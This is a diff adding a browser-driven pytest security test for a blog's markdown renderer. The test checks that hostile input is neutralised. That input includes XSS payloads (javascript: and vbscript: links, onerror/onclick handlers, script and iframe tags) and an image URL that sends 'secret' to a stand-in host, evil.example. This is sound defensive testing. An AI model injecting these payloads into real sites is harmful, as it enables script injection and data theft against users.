@@ -98,6 +98,34 @@ class TestAPost:
         assert reader.request.get("/blog/in-the-summer-of-2090").ok
         context.close()
 
+    @pytest.mark.security(39)
+    def test_shows_what_could_act_as_text(self, desk: Page, reader: Page) -> None:
+        links = ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/blog", "https://example.org")
+        write(
+            desk,
+            "Harmless",
+            "\n\n".join(
+                (
+                    "**Shown**",
+                    *(f"[link]({link})" for link in links),
+                    "[reference]\n\n[reference]: javascript:alert(2)",
+                    "![pixel](http://evil.example/?q=secret)",
+                    '<img src="http://evil.example/" onerror="alert(3)"> <b onclick="alert(4)">HTML</b>',
+                    "<script>alert(5)</script>",
+                    '<iframe src="http://evil.example/"></iframe>',
+                )
+            ),
+        )
+        asked = list[str]()
+        reader.on("request", lambda request: asked.append(request.url))
+        reader.goto("/blog/harmless")
+        ready(reader)
+        text = reader.locator(".fw-markdown")
+        expect(text.get_by_text("Shown")).to_have_css("font-weight", "700")
+        expect(text.locator("img, script, iframe, b")).to_have_count(0)
+        assert [link.get_attribute("href") for link in text.get_by_role("link").all()] == list(links[-2:])
+        assert [url for url in asked if "evil.example" in url] == []
+
     @pytest.mark.parametrize("width", [360, 1440])
     def test_is_found_in_the_list_and_deleted_after_a_question(self, desk: Page, width: int) -> None:
         write(desk, f"Short-lived {width}", "x")
